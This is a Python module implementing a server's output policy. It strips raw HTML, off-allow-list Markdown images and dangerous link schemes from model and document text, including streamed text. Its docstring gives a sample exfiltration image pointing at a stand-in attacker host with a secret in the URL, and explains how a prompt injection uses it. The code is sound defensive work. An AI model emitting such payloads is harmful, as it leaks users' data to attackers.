"""The server's one output policy: what any client may receive of an answer, a quote, a title, a suggestion, an
export or an MCP result.

Text from documents and models is Markdown that some client will render — the bundled page, an MCP client, a
Teams bot. Whatever that client's own defences, the server sends none of these:

- **raw HTML**: every ``<`` that opens markup (a tag, a comment, a declaration: ``<`` followed by a letter, ``/``,
  ``!`` or ``?``, as the HTML tokenizer reads it) is escaped with the ``>`` that closes it, so a renderer shows the
  markup as text (``&lt;script&gt;``) instead of running or fetching it; a ``<`` in prose (``5 < 6``) stays;
- **images from hosts not on the allow-list** (``ORC_OUTPUT_IMAGE_HOSTS``, empty by default): a Markdown image is
  fetched by the renderer without a click, so ``![x](https://evil.example/?q=SECRET)`` would exfiltrate whatever a
  prompt injection put in its URL; it is replaced by its alt text, and any other image opener (``![alt][ref]``)
  loses its meaning;
- **links whose scheme is not http, https or mailto** (``javascript:``, ``data:``, ``vbscript:``…): replaced by
  their text; reference definitions (``[x]: javascript:…``) with such a target are dropped.

What was removed is counted (:class:`Removed`, ``metadata.sanitized``). The policy is idempotent: a cleaned text
comes out of it unchanged. Every rule is local — it reads a construct and nothing far from it — so a streamed text
cleaned piece by piece between the cut points :class:`OutputStream` chooses comes out exactly as the whole text
cleaned at once: what is sent is what is stored.

Where it runs: the turn cleans its answer, quotes and suggestions as it makes them (a stream cannot be cleaned
after it is sent); every other text leaves through the HTTP door (:mod:`orc.http.output_door`) or an MCP
transport, which clean every string of what they serialize (:meth:`OutputPolicy.value`).
"""

from __future__ import annotations

import html
import json
import re
from collections.abc import Iterable
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

__all__ = ["OutputPolicy", "OutputStream", "Removed", "as_text"]

LINK_SCHEMES = frozenset({"http", "https", "mailto"})
"""The only schemes a link in an answer may use."""

MAX_HELD_CHARS = 2000
"""Streaming: a construct still open after this many characters is given up on (its text is still cleaned, piece
by piece, so nothing of it can act)."""

# Markdown inline images and links: ``![alt](dest "title")`` / ``[text](dest)``, with a destination either in angle
# brackets or without spaces (nested parentheses one level deep, as in Wikipedia URLs). The link text may hold one
# level of brackets (``[a [b] c](…)``).
_INLINE = re.compile(
    r"(?P<bang>!?)\[(?P<text>(?:[^\[\]\n]|\[[^\[\]\n]*\])*)\]"
    r"\(\s*(?P<dest><[^<>\n]*>|(?:[^\s()]|\([^\s()]*\))*)(?P<title>\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?\s*\)"
)
# A reference definition ``[label]: destination "title"`` on its own line (up to three spaces of indent).
_DEFINITION = re.compile(r"^ {0,3}\[(?P<label>[^\]\n]+)\]:[ \t]*(?P<dest><[^<>\n]*>|\S+)[^\n]*$", re.MULTILINE)
# What the inline and definition patterns may have missed: an image opener, a destination after a link text.
_OPENERS = re.compile(r"!\[|\]\(|\]:")
_FIRST_TOKEN = re.compile(r"[^\s()<>]*")
# Markup as the HTML tokenizer starts it (a tag, an end tag, a comment or declaration, a processing instruction),
# up to the '>' that closes it; NUL, which the tokenizer reads as markup too.
_MARKUP = re.compile(r"<[A-Za-z/!?][^<>]*>?|\x00")
# Every character a rule above starts from: a text without any is clean as it is.
_TRIGGERS = re.compile(r"[\[\]<\x00]")


@dataclass(slots=True)
class Removed:
    """What the policy took out of one or more texts: HTML tags escaped, images dropped, links unlinked."""

    html: int = 0
    images: int = 0
    links: int = 0

    def add(self, other: Removed) -> None:
        """Count ``other``'s removals too."""
        self.html += other.html
        self.images += other.images
        self.links += other.links

    @property
    def total(self) -> int:
        """Everything removed."""
        return self.html + self.images + self.links

    def as_dict(self) -> dict[str, int]:
        """``{"html": n, "images": n, "links": n}`` (``metadata.sanitized``)."""
        return {"html": self.html, "images": self.images, "links": self.links}


def _destination(raw: str) -> str:
    dest = raw.strip()
    if dest.startswith("<") and dest.endswith(">"):
        dest = dest[1:-1]
    return dest.strip()


def _scheme(url: str) -> str | None:
    """The URL's scheme, lower-cased, ignoring the whitespace and control characters browsers ignore in it; ``None``
    for a relative URL."""
    # A renderer decodes character references in a destination (``&#106;avascript:``) before it reads the scheme.
    squeezed = "".join(ch for ch in html.unescape(url) if ch > " " and ch != "\x7f")
    head, colon, _ = squeezed.partition(":")
    if not colon or "/" in head or "?" in head or "#" in head:
        return None
    return head.lower()


def as_text(text: str) -> str:
    """A cleaned text as a client that never renders markup shows it (a terminal, a PDF laid out as text): the
    markup the policy escaped (``path &lt;string&gt;``) reads as the document wrote it (``path <string>``). Only
    what the policy writes is undone; a text shown this way is never rendered as HTML or Markdown."""
    return text.replace("&lt;", "<").replace("&gt;", ">")


def _escaped_markup(match: re.Match[str]) -> str:
    unit = match.group(0)
    if unit == "\x00":
        return "\ufffd"  # what the HTML tokenizer makes of it
    return "&lt;" + unit[1:-1] + "&gt;" if unit.endswith(">") else "&lt;" + unit[1:]


@dataclass(frozen=True, slots=True)
class OutputPolicy:
    """The output policy with its image allow-list (host names, compared case-insensitively)."""

    image_hosts: frozenset[str] = field(default_factory=frozenset)

    @classmethod
    def allowing(cls, hosts: Iterable[str]) -> OutputPolicy:
        """A policy that keeps Markdown images served over https by ``hosts``."""
        return cls(frozenset(host.strip().lower() for host in hosts if host.strip()))

    def link_allowed(self, url: str) -> bool:
        """Whether a link may point at ``url``: http, https or mailto (a relative URL has no scheme to abuse)."""
        scheme = _scheme(url)
        return scheme is None or scheme in LINK_SCHEMES

    def image_allowed(self, url: str) -> bool:
        """Whether a renderer may fetch an image from ``url``: https on an allowed host only."""
        if _scheme(url) != "https":
            return False
        try:
            host = (urlsplit(url.strip()).hostname or "").lower()
        except ValueError:
            return False
        return bool(host) and host in self.image_hosts

    def clean(self, text: str) -> tuple[str, Removed]:
        """``text`` as a client may receive it, and what was taken out."""
        removed = Removed()
        if not text or not _TRIGGERS.search(text):
            return text, removed
        text = self._definitions(text, removed)
        text = self._inline(text, removed)
        text = self._unparsed(text, removed)
        text, markup = _MARKUP.subn(_escaped_markup, text)
        removed.html += markup
        return text, removed

    def text(self, text: str, removed: Removed | None = None) -> str:
        """``text`` cleaned; its removals added to ``removed`` when given."""
        cleaned, found = self.clean(text)
        if removed is not None:
            removed.add(found)
        return cleaned

    def texts(self, texts: Iterable[str], removed: Removed | None = None) -> list[str]:
        """Every text cleaned (suggestions, titles)."""
        return [self.text(text, removed) for text in texts]

    def value(self, value: Any) -> Any:
        """A JSON value (what a response or a tool result serializes) with every string in it cleaned.

        A string that holds JSON itself (a tool's structured result sent as text) is cleaned string by string and
        written back as JSON, so the escapes the policy adds never break it. Object keys are names the server chose
        and stay as they are.
        """
        if isinstance(value, str):
            if value[:1] in ("{", "[") and _TRIGGERS.search(value):
                try:
                    parsed = json.loads(value)
                except ValueError:
                    return self.text(value)
                if isinstance(parsed, dict | list):
                    return json.dumps(self.value(parsed), ensure_ascii=False)
            return self.text(value)
        if isinstance(value, dict):
            return {key: self.value(item) for key, item in value.items()}
        if isinstance(value, list):
            return [self.value(item) for item in value]
        return value

    def stream(self) -> OutputStream:
        """A cleaner for a text that arrives piece by piece."""
        return OutputStream(self)

    def _definitions(self, text: str, removed: Removed) -> str:
        def replace(match: re.Match[str]) -> str:
            dest = _destination(match.group("dest"))
            if self.link_allowed(dest):
                return match.group(0)
            removed.links += 1
            return ""

        return _DEFINITION.sub(replace, text)

    def _inline(self, text: str, removed: Removed) -> str:
        def replace(match: re.Match[str]) -> str:
            inner = match.group("text")
            dest = _destination(match.group("dest"))
            if match.group("bang"):
                if self.image_allowed(dest):
                    return match.group(0)
                removed.images += 1
                # The alt text stays (it is the document's words); an image nested in a link's text is cleaned too.
                return self._inline(inner, removed)
            cleaned_inner = self._inline(inner, removed)
            if self.link_allowed(dest):
                return match.group(0) if cleaned_inner == inner else f"[{cleaned_inner}]({match.group('dest')})"
            removed.links += 1
            return cleaned_inner

        return _INLINE.sub(replace, text)

    def _unparsed(self, text: str, removed: Removed) -> str:
        """The constructs the patterns above did not read (a reference-style image, a link text over several lines,
        deeply nested parentheses) made inert: an image opener not kept as an allowed image loses its brackets'
        meaning, and a destination with a refused scheme is detached from its text, so the renderer shows both as
        text."""
        parts: list[str] = []
        last = 0
        for match in _OPENERS.finditer(text):
            at = match.start()
            if match.group(0) == "![":
                kept = _INLINE.match(text, at)
                if kept and self.image_allowed(_destination(kept.group("dest"))):
                    continue
                parts.append(text[last:at] + "!\\[")
                last = at + 2
                removed.images += 1
            else:
                dest = text[match.end() :].lstrip(" \t\n<")
                if self.link_allowed(_FIRST_TOKEN.match(dest).group(0)):  # type: ignore[union-attr]
                    continue
                parts.append(text[last:at] + "]\\" + match.group(0)[1:])
                last = match.end()
                removed.links += 1
        return "".join(parts) + text[last:] if parts else text


@dataclass(slots=True)
class OutputStream:
    """Cleans a streamed text so that the pieces it sends add up to exactly what :meth:`OutputPolicy.clean` makes of
    the whole text: nothing a construct split across pieces could hide, and what is sent is what is stored.

    Text is sent up to the last *cut point*: a place no construct of the policy spans (after white space, outside
    any bracket, destination, tag or reference definition). Each run between cut points is cleaned as it is sent;
    since every rule of the policy is local to a construct, cleaning runs one by one equals cleaning the whole.
    """

    policy: OutputPolicy
    removed: Removed = field(default_factory=Removed)
    _cuts: _CutPoints = field(default_factory=lambda: _CutPoints())

    def feed(self, piece: str) -> str:
        """The cleaned text that can be sent now."""
        return self.policy.text(self._cuts.feed(piece), self.removed)

    def flush(self) -> str:
        """Whatever is still held, cleaned, at the end of the stream."""
        return self.policy.text(self._cuts.flush(), self.removed)


_SPACE = " \t\n"


@dataclass(slots=True)
class _CutPoints:
    """Scans a streamed text once, left to right, and hands out the text up to the last cut point.

    A position is a cut point when nothing is open there and it follows white space: after a newline, or after a
    space or tab when the next character is not one too nor a ``[`` (a run must not start with what the line-start
    rule of reference definitions could read as a line start). Open things: a bracket (until it closes or the line
    ends), a destination after ``](`` (until its parentheses balance or a blank line), a destination after ``]:``
    (until its first word ends), a tag from ``<`` (until ``>`` or the next ``<``), and a line that starts like a
    reference definition (until it ends).
    """

    _text: str = ""
    _at: int = 0  # next position to read
    _cut: int = 0  # the last cut point found
    _since: int | None = None  # where the oldest open thing started
    _depth: int = 0  # brackets open
    _dest: str = ""  # "(" inside a ](…) destination, ":" before the first word of a ]: destination, "" neither
    _parens: int = 0
    _quote: str = ""  # the quote of a title inside a destination
    _angled: bool = False  # inside <…> of a destination
    _word: bool = False  # the ]: destination's first word has begun
    _tag: bool = False
    _line: bool = False  # a line that may be a reference definition
    _indent: int | None = 0  # spaces since the line started (None: the line has other text)

    def feed(self, piece: str) -> str:
        self._text += piece
        self._scan(final=False)
        return self._take(self._cut)

    def flush(self) -> str:
        self._scan(final=True)
        return self._take(len(self._text))

    def _take(self, upto: int) -> str:
        if upto <= 0:
            return ""
        ready, self._text = self._text[:upto], self._text[upto:]
        self._at -= upto
        self._cut = 0
        if self._since is not None:
            self._since -= upto
        return ready

    def _open(self) -> bool:
        return bool(self._depth or self._dest or self._tag or self._line)

    def _opened(self, at: int) -> None:
        if self._since is None:
            self._since = at

    def _scan(self, *, final: bool) -> None:
        text = self._text
        end = len(text)
        i = self._at
        while i < end:
            ch = text[i]
            nxt = text[i + 1] if i + 1 < end else None
            if nxt is None and not final and ch in "]<":
                break  # what it starts depends on the next character
            if not self._open() and i > 0 and (text[i - 1] == "\n" or (text[i - 1] in " \t" and ch not in " \t[")):
                self._cut = i
            if self._since is not None and i - self._since > MAX_HELD_CHARS:
                self._give_up()
            i = self._step(text, i, ch, nxt)
            if not self._open():
                self._since = None
        self._at = i

    def _give_up(self) -> None:
        self._depth = 0
        self._dest = self._quote = ""
        self._parens = 0
        self._angled = self._word = self._tag = self._line = False
        self._since = None

    def _step(self, text: str, i: int, ch: str, nxt: str | None) -> int:
        """Read ``ch`` at ``i``; the position to read next."""
        if ch in "<>":
            # A tag runs to its '>' or the next '<'; the brackets inside it are read as anywhere else (the link
            # patterns apply before markup is escaped).
            self._tag = ch == "<" and nxt is not None and ((nxt.isascii() and nxt.isalpha()) or nxt in "/!?")
            if self._tag:
                self._opened(i)
        if ch == "\n":
            self._line = False
            self._indent = 0
        elif self._indent is not None:
            if ch == " " and self._indent < 3:
                self._indent += 1
            else:
                if ch == "[":
                    self._line = True
                    self._opened(i)
                self._indent = None
        if self._dest == "(":
            return self._in_destination(text, i, ch)
        if self._dest == ":" and (ch not in " \t\n<" or self._word):
            # Open until the destination's first word ends; brackets inside it are read as anywhere else.
            if ch in " \t\n()<>":
                self._dest = ""
                self._word = False
            else:
                self._word = True
        if ch == "[":
            self._depth += 1
            self._opened(i)
        elif ch == "]":
            self._depth = max(0, self._depth - 1)
            if self._dest != "(" and nxt in ("(", ":"):
                # At any depth, and inside the first word of a "]:" destination: the patterns read a nested link,
                # and a stray "](" or "]:" too.
                self._dest = nxt
                self._word = False
                self._parens = 1 if nxt == "(" else 0
                self._opened(i)
                return i + 2
        elif ch == "\n":
            self._depth = 0  # a link's text does not span lines
        return i + 1

    def _in_destination(self, text: str, i: int, ch: str) -> int:
        before = text[i - 1] if i else "\n"
        if self._quote:
            if ch == self._quote or ch == "\n":
                self._quote = ""
        elif self._angled:
            if ch in ">\n":
                self._angled = False
        elif ch == "(":
            self._parens += 1
        elif ch == ")":
            self._parens -= 1
            if not self._parens:
                self._dest = ""
        elif ch in "\"'" and before in _SPACE:
            self._quote = ch
        elif ch == "<" and before in "( \t\n":
            self._angled = True
        elif ch == "\n" and text[:i].rstrip(" \t").endswith("\n"):
            self._dest = ""  # a blank line ends the paragraph, and any link in it
        return i + 1
